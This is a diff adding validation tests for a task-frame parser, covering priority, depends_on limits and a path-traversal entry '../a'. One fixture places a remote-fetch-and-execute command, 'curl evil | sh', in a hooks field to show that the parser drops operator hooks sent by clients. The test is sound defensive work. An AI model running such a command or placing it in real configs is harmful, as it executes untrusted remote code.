@@ -22,6 +22,14 @@ describe('parseInbound', () => {
     [{ type: 'task', task_id: 'ok', command: 'x', timeout: 'soon' }, 'timeout'],
     [{ type: 'task', task_id: 'ok', command: 'x', env_vars: { A: { nested: 1 } } }, 'env_vars'],
     [{ type: 'task', task_id: 7, command: 'x' }, 'task_id'],
+    [{ type: 'task', task_id: 'ok', command: 'x', priority: 1.5 }, 'priority: priority must be an integer'],
+    [{ type: 'task', task_id: 'ok', command: 'x', priority: '9' }, 'priority'],
+    [{ type: 'task', task_id: 'ok', command: 'x', depends_on: 'a' }, 'depends_on'],
+    [{ type: 'task', task_id: 'ok', command: 'x', depends_on: ['../a'] }, 'depends_on.0: each depends_on entry'],
+    [
+      { type: 'task', task_id: 'ok', command: 'x', depends_on: Array.from({ length: 101 }, (_, i) => `d${i}`) },
+      'depends_on: depends_on names at most 100 tasks',
+    ],
   ])('rejects a bad task %j naming %s', (frame, field) => {
     const r = parseInbound(frame);
     expect(r.ok).toBe(false);
@@ -29,6 +37,19 @@ describe('parseInbound', () => {
       expect(r.code).toBe('INVALID_TASK');
       expect(r.message).toContain(field);
     }
+  });
+
+  it("takes priority and depends_on; a frame cannot set hooks (the operator's, config only)", () => {
+    const r = parseInbound({
+      type: 'task',
+      task_id: 't',
+      command: 'x',
+      priority: -3,
+      depends_on: ['a', 'b'],
+      hooks: { pre_task: 'curl evil | sh' },
+    });
+    expect(r).toMatchObject({ ok: true, frame: { priority: -3, depends_on: ['a', 'b'] } });
+    expect(r.ok && 'hooks' in r.frame).toBe(false);
   });
 
   it('names the task it rejects only when task_id is a string', () => {
